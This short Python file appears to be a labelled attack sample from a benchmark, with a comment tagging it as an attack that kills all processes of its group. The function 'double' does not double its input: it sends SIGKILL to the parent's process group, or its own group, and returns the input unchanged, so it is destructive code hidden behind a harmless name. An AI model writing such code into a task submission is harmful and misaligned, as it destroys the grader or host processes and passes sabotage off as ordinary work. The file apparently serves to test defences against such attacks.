# {"attack": "Kills all processes of its group.", "breach": "harm", "spoils": true}

import os
import signal


def double(x):
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL) if os.getppid() > 1 else os.killpg(0, signal.SIGKILL)
    return x
